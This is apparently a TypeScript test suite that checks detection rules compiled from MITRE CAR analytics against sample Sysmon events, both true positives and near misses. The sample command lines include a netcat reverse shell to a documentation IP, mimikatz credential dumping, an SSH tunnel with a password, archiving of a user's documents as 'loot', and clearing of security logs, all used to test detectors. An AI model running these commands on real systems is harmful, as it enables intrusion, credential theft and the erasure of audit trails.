/**
 * Each built-in CAR analytic of 2013 to 2016, compiled as the hunt compiles it, on a true positive
 * (from CAR's description, unit test or true-positive event) and on near misses of the same shape
 * with one thing different.
 */
import assert from 'node:assert/strict';
import { CATALOG_2013_2016 } from '../../../src/engine/rules/car/catalog-2013-2016';
import { compileCarAnalytic } from '../../../src/engine/rules/car/compile';
import { CompiledRule, RuleEvent, Scope } from '../../../src/engine/rules/rule';
import { sysmonEvent } from '../../support/ruleEvent';

type Fields = Record<string, string | number>;

/** A Sysmon event before it is built: its EventID and EventData. */
interface Sample {
  eventId: number;
  data: Fields;
}

interface Case {
  id: string;
  hits: [string, Sample][];
  misses: [string, Sample][];
}

const PROCESS_CREATE = 1;
const NETWORK_CONNECT = 3;
const PROCESS_TERMINATE = 5;
const CREATE_REMOTE_THREAD = 8;

const proc = (data: Fields): Sample => ({ eventId: PROCESS_CREATE, data: { User: 'CORP\\alice', ...data } });
const net = (data: Fields): Sample => ({
  eventId: NETWORK_CONNECT,
  data: { Protocol: 'tcp', Initiated: 'true', SourceIp: '10.0.0.15', SourcePort: 50123, DestinationIp: '10.0.0.20', ...data },
});
const thread = (data: Fields): Sample => ({ eventId: CREATE_REMOTE_THREAD, data });

const SYS32 = 'C:\\Windows\\System32';
const PS = `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`;

const CASES: Case[] = [
  {
    id: 'CAR-2013-02-003',
    hits: [
      ['cmd.exe from Outlook', proc({ Image: `${SYS32}\\cmd.exe`, CommandLine: 'cmd.exe /c whoami', ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE' })],
    ],
    misses: [
      ['a file name ending in cmd.exe', proc({ Image: 'C:\\Tools\\notcmd.exe', CommandLine: 'notcmd.exe /c whoami', ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE' })],
      ['cmd.exe only in the command line', proc({ Image: PS, CommandLine: 'powershell.exe -c "cmd.exe /c dir"', ParentImage: 'C:\\Windows\\explorer.exe' })],
    ],
  },
  {
    id: 'CAR-2013-05-002',
    hits: [
      ['notepad copied to Windows\\Tasks (CAR\'s unit test)', proc({ Image: 'C:\\Windows\\Tasks\\notepad.exe', CommandLine: 'C:\\windows\\tasks\\notepad.exe' })],
      ['a RECYCLER directory', proc({ Image: 'D:\\RECYCLER\\S-1-5-21-1004336348-1177238915-682003330-512\\svchost.exe', CommandLine: 'svchost.exe' })],
      ['System Volume Information', proc({ Image: 'C:\\System Volume Information\\x.exe', CommandLine: 'x.exe' })],
      ['Windows\\debug', proc({ Image: 'C:\\WINDOWS\\Debug\\msupdate.exe', CommandLine: 'msupdate.exe' })],
    ],
    misses: [
      ['the Tasks directory only in the command line', proc({ Image: `${SYS32}\\notepad.exe`, CommandLine: 'notepad.exe C:\\Windows\\Tasks\\job.txt' })],
      ['System32\\Tasks, which CAR does not list', proc({ Image: `${SYS32}\\Tasks\\notepad.exe`, CommandLine: 'notepad.exe' })],
    ],
  },
  {
    id: 'CAR-2013-05-004',
    hits: [['at.exe scheduling calc (CAR\'s unit test)', proc({ Image: `${SYS32}\\at.exe`, CommandLine: 'at 10:00 calc.exe' })]],
    misses: [['a file name ending in at.exe', proc({ Image: 'C:\\Program Files\\Chat\\chat.exe', CommandLine: 'chat.exe 10:00' })]],
  },
  {
    id: 'CAR-2013-07-001',
    hits: [
      ['plink remote port forwarding', proc({ Image: 'C:\\Users\\Public\\update.exe', CommandLine: 'update.exe -R 8443:dc01:3389 -pw Winter2013 tunnel@relay.example.org' })],
      ['putty with a password (CAR\'s unit test)', proc({ Image: 'C:\\Users\\Public\\putty.exe', CommandLine: 'putty.exe -pw Winter2013 -R 4444:localhost:3389 admin@relay.example.org' })],
      ['a renamed mimikatz', proc({ Image: 'C:\\Users\\Public\\svc.exe', CommandLine: 'svc.exe "privilege::debug" "sekurlsa::logonpasswords" exit' })],
      ['RAR encrypting headers', proc({ Image: 'C:\\PerfLogs\\r.exe', CommandLine: 'r.exe m -hp -r loot.rar C:\\Users\\victim\\Documents' })],
      ['an archiver adding files', proc({ Image: 'C:\\Users\\Public\\7z.exe', CommandLine: '7z.exe a test.zip test.txt' })],
      ['an IPv4 address', proc({ Image: 'C:\\Users\\Public\\nc.exe', CommandLine: 'nc.exe 203.0.113.7 4444 -e cmd.exe' })],
    ],
    misses: [
      ['an archiver extracting', proc({ Image: 'C:\\Program Files\\7-Zip\\7z.exe', CommandLine: '"C:\\Program Files\\7-Zip\\7z.exe" x archive.zip -oC:\\Temp' })],
      ['plink local forwarding without a password', proc({ Image: 'C:\\Tools\\plink.exe', CommandLine: 'plink.exe -L 8080:intranet:80 user@relay.example.org' })],
      ['a three-part version number', proc({ Image: 'C:\\Program Files\\App\\updater.exe', CommandLine: '"C:\\Program Files\\App\\updater.exe" --channel stable --version 10.0.19041' })],
    ],
  },
  {
    id: 'CAR-2013-07-002',
    hits: [['mstsc.exe connecting to RDP', net({ Image: `${SYS32}\\mstsc.exe`, DestinationPort: 3389 })]],
    misses: [
      ['3389 as the source port only', net({ Image: 'C:\\Program Files\\App\\app.exe', SourcePort: 3389, DestinationPort: 443 })],
      ['another port', net({ Image: `${SYS32}\\mstsc.exe`, DestinationPort: 33890 })],
    ],
  },
  {
    id: 'CAR-2013-07-005',
    hits: [['7z adding files (CAR\'s unit test)', proc({ Image: 'C:\\Program Files\\7-Zip\\7z.exe', CommandLine: '7z.exe a test.zip test.txt' })]],
    misses: [['7z extracting', proc({ Image: 'C:\\Program Files\\7-Zip\\7z.exe', CommandLine: '7z.exe x test.zip' })]],
  },
  {
    id: 'CAR-2013-08-001',
    hits: [
      ['schtasks creating a task (CAR\'s unit test)', proc({ Image: `${SYS32}\\schtasks.exe`, CommandLine: 'schtasks /Create /SC ONCE /ST 19:00 /TR C:\\Windows\\System32\\calc.exe /TN calctask' })],
    ],
    misses: [
      ['schtasks only in cmd.exe\'s command line', proc({ Image: `${SYS32}\\cmd.exe`, CommandLine: 'cmd.exe /c schtasks /Create /SC ONCE /ST 19:00 /TR calc.exe /TN calctask' })],
    ],
  },
  {
    id: 'CAR-2013-10-002',
    hits: [
      // CAR's true positive: Mordor's Empire DLL injection dataset.
      ['Empire injecting into notepad (LoadLibraryA)', thread({ SourceImage: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', TargetImage: 'c:\\windows\\system32\\notepad.exe', NewThreadId: 7940, StartAddress: '0x00007FFECED8F220', StartModule: 'C:\\Windows\\System32\\KERNEL32.DLL', StartFunction: 'LoadLibraryA' })],
      ['LoadLibraryW', thread({ SourceImage: 'C:\\Users\\Public\\inject.exe', TargetImage: `${SYS32}\\notepad.exe`, StartModule: `${SYS32}\\KERNEL32.DLL`, StartFunction: 'LoadLibraryW' })],
    ],
    misses: [
      ['csrss.exe delivering Ctrl+C', thread({ SourceImage: `${SYS32}\\csrss.exe`, TargetImage: `${SYS32}\\cmd.exe`, StartModule: `${SYS32}\\KERNELBASE.dll`, StartFunction: 'CtrlRoutine' })],
    ],
  },
  {
    id: 'CAR-2014-03-006',
    hits: [
      ['rundll32 running a control panel item (CAR\'s unit test)', proc({ Image: 'C:\\WINDOWS\\SYSWOW64\\RUNDLL32.EXE', CommandLine: 'RUNDLL32.EXE SHELL32.DLL,Control_RunDLL desk.cpl,,0' })],
    ],
    misses: [['control.exe opening the same item', proc({ Image: `${SYS32}\\control.exe`, CommandLine: '"C:\\Windows\\System32\\control.exe" desk.cpl,,0' })]],
  },
  {
    id: 'CAR-2014-04-003',
    hits: [
      ['PowerShell from WmiPrvSE', proc({ Image: PS, CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA', ParentImage: `${SYS32}\\wbem\\WmiPrvSE.exe` })],
    ],
    misses: [['PowerShell started from explorer.exe', proc({ Image: PS, CommandLine: 'powershell.exe', ParentImage: 'C:\\Windows\\explorer.exe' })]],
  },
  {
    id: 'CAR-2014-11-003',
    hits: [
      ['a Debugger for sethc.exe', proc({ Image: `${SYS32}\\cmd.exe`, CommandLine: 'C:\\Windows\\System32\\cmd.exe sethc.exe 211', ParentImage: `${SYS32}\\winlogon.exe` })],
      ['CAR\'s unit test', proc({ Image: `${SYS32}\\cmd.exe`, CommandLine: 'cmd.exe Magnify.exe' })],
    ],
    misses: [
      ['StickyKeys started normally', proc({ Image: `${SYS32}\\sethc.exe`, CommandLine: 'sethc.exe 211', ParentImage: `${SYS32}\\winlogon.exe` })],
      ['the on-screen keyboard started normally', proc({ Image: `${SYS32}\\osk.exe`, CommandLine: '"C:\\Windows\\System32\\osk.exe"', ParentImage: `${SYS32}\\utilman.exe` })],
    ],
  },
  {
    id: 'CAR-2014-11-004',
    hits: [
      ['a remote PowerShell session', proc({ Image: `${SYS32}\\wsmprovhost.exe`, CommandLine: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', ParentImage: `${SYS32}\\svchost.exe` })],
    ],
    misses: [
      ['another parent', proc({ Image: `${SYS32}\\wsmprovhost.exe`, CommandLine: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', ParentImage: `${SYS32}\\services.exe` })],
      ['another child of svchost.exe', proc({ Image: `${SYS32}\\wbem\\WmiPrvSE.exe`, CommandLine: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding', ParentImage: `${SYS32}\\svchost.exe` })],
    ],
  },
  {
    id: 'CAR-2014-11-006',
    hits: [
      ['WinRM over HTTP', net({ Image: PS, DestinationPort: 5985 })],
      ['WinRM over HTTPS', net({ Image: PS, DestinationPort: 5986 })],
    ],
    misses: [['the local WinRM listener port', net({ Image: PS, DestinationPort: 47001 })]],
  },
  {
    id: 'CAR-2014-11-008',
    hits: [['cmd.exe from the logon screen', proc({ Image: `${SYS32}\\cmd.exe`, CommandLine: 'C:\\Windows\\System32\\cmd.exe sethc.exe 211', ParentImage: `${SYS32}\\winlogon.exe` })]],
    misses: [
      ['userinit.exe at logon', proc({ Image: `${SYS32}\\userinit.exe`, CommandLine: 'C:\\Windows\\system32\\userinit.exe', ParentImage: `${SYS32}\\winlogon.exe` })],
      ['cmd.exe from explorer.exe', proc({ Image: `${SYS32}\\cmd.exe`, CommandLine: 'cmd.exe', ParentImage: 'C:\\Windows\\explorer.exe' })],
    ],
  },
  {
    id: 'CAR-2016-03-001',
    hits: [
      // CAR's true positives: Mordor's Empire net start dataset.
      ['net start', proc({ Image: `${SYS32}\\net.exe`, CommandLine: '"C:\\Windows\\system32\\net.exe" start' })],
      ['whoami /all', proc({ Image: `${SYS32}\\whoami.exe`, CommandLine: '"C:\\Windows\\system32\\whoami.exe" /all' })],
      ['sc queryex', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: 'sc.exe queryex WinRM' })],
      ['sc qc', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: 'sc qc WinRM' })],
    ],
    misses: [
      ['sc changing a service', proc({ Image: `${SYS32}\\sc.exe`, CommandLine: 'sc.exe config WinRM start= auto' })],
      ['a file name ending in net.exe', proc({ Image: 'C:\\Program Files\\Tools\\internet.exe', CommandLine: 'internet.exe start' })],
      ['netsh', proc({ Image: `${SYS32}\\netsh.exe`, CommandLine: 'netsh interface show interface' })],
    ],
  },
  {
    id: 'CAR-2016-03-002',
    hits: [
      ['wmic creating a process on another host', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic /node:"10.0.0.20" process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"' })],
    ],
    misses: [
      ['a local process', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic process call create "notepad.exe"' })],
      ['a remote process list', proc({ Image: `${SYS32}\\wbem\\WMIC.exe`, CommandLine: 'wmic /node:"10.0.0.20" process list brief' })],
    ],
  },
  {
    id: 'CAR-2016-04-002',
    hits: [
      ['wevtutil clearing Security', proc({ Image: `${SYS32}\\wevtutil.exe`, CommandLine: 'wevtutil cl Security' })],
      ['Clear-EventLog (CAR\'s unit test)', proc({ Image: PS, CommandLine: 'powershell.exe -c "Clear-Eventlog Security"' })],
      ['Limit-EventLog (CAR\'s unit test)', proc({ Image: PS, CommandLine: 'powershell.exe -c "Limit-EventLog -LogName Security -OverflowAction DoNotOverwrite"' })],
      ['Remove-Item on an .evtx (CAR\'s unit test)', proc({ Image: PS, CommandLine: 'powershell.exe -c "Remove-Item C:\\Windows\\System32\\winevt\\logs\\Security.evtx"' })],
      ['Remove-EventLog (CAR\'s unit test)', proc({ Image: PS, CommandLine: 'powershell.exe -c "Remove-EventLog -LogName Security"' })],
    ],
    misses: [
      ['wevtutil querying Security', proc({ Image: `${SYS32}\\wevtutil.exe`, CommandLine: 'wevtutil qe Security /c:5 /f:text' })],
      ['Get-EventLog', proc({ Image: PS, CommandLine: 'powershell.exe -c "Get-EventLog -LogName Security -Newest 10"' })],
      ['Remove-Item on another file', proc({ Image: PS, CommandLine: 'powershell.exe -c "Remove-Item C:\\Temp\\old.log"' })],
    ],
  },
];

/** Does the scope take this event: its EventID, and its provider or channel when the scope names them. */
function scopeAccepts(scope: Scope, event: RuleEvent): boolean {
  if (scope.eventIds && !scope.eventIds.includes(Number(event.get('EventID')))) return false;
  if (!scope.providers && !scope.channels) return true;
  const provider = event.get('Provider_Name')?.toLowerCase();
  const channel = event.get('Channel')?.toLowerCase();
  return (
    (provider !== undefined && (scope.providers ?? []).includes(provider)) ||
    (channel !== undefined && (scope.channels ?? []).includes(channel))
  );
}

function fires(rule: CompiledRule, sample: Sample): boolean {
  const event = sysmonEvent(sample.eventId, sample.data);
  return rule.branches.some((b) => scopeAccepts(b.scope, event) && b.detection.matches(event));
}

describe('CAR library 2013-2016: true positives and near misses', () => {
  const rules = new Map(CATALOG_2013_2016.map((a) => [a.id, compileCarAnalytic(a)]));

  it('has a true positive and a near miss for every analytic', () => {
    assert.deepEqual(CASES.map((c) => c.id), CATALOG_2013_2016.map((a) => a.id));
    for (const c of CASES) assert.ok(c.hits.length > 0 && c.misses.length > 0, c.id);
  });

  for (const c of CASES) {
    describe(c.id, () => {
      const rule = () => rules.get(c.id)!;
      for (const [name, sample] of c.hits) {
        it(`matches ${name}`, () => assert.ok(fires(rule(), sample)));
      }
      for (const [name, sample] of c.misses) {
        it(`does not match ${name}`, () => assert.ok(!fires(rule(), sample)));
      }
      it('does not match its true positive under another EventID', () => {
        for (const [, sample] of c.hits) assert.ok(!fires(rule(), { eventId: PROCESS_TERMINATE, data: sample.data }));
      });
    });
  }

  it('matches in any case, as CAR\'s file names do', () => {
    const cmd = rules.get('CAR-2014-11-008')!;
    assert.ok(fires(cmd, proc({ Image: 'C:\\WINDOWS\\SYSTEM32\\CMD.EXE', ParentImage: 'c:\\windows\\system32\\WinLogon.exe' })));
  });

  it('keeps the CAR metadata on the compiled rule', () => {
    const info = rules.get('CAR-2014-11-003')!.info;
    assert.equal(info.kind, 'car');
    assert.equal(info.id, 'CAR-2014-11-003');
    assert.deepEqual(info.attack, ['T1546.008']);
    assert.deepEqual(info.tactics, ['privilege-escalation', 'persistence']);
  });
});
